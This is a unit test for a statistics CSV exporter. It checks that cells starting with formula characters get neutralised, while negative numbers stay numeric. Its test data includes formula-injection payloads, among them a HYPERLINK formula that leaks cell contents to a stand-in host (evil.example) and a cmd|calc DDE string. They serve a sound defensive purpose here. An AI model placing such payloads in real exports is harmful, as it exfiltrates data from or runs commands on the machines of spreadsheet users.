import { parse } from 'csv-parse/sync';
import { toCsv } from './statistics-csv';

const line = (label: string, directLossYuan = 0) => ({
  key: label,
  label,
  incidents: 1,
  deaths: 0,
  missing: 0,
  seriousInjuries: 0,
  minorInjuries: 0,
  injuries: 0,
  directLossYuan,
  grades: { general: 1, major: 0, serious: 0, especially_serious: 0 },
  majorOrAboveShare: 0,
});

describe('statistics CSV export', () => {
  it('neutralises cells a spreadsheet would run as formulas, and keeps negative numbers numbers', () => {
    const labels = [
      '=HYPERLINK("http://evil.example/?"&A1,"点击")',
      '+1+cmd|calc',
      '-2+3',
      '@SUM(A1)',
      '＝1+1',
      '中宁县',
    ];
    const rows = parse(toCsv([...labels.map((l) => line(l)), line('合计', -5)])) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toEqual([...labels.slice(0, 5).map((l) => `'${l}`), '中宁县', '合计']);
    expect(rows[rows.length - 1]![7]).toBe('-5');
  });
});
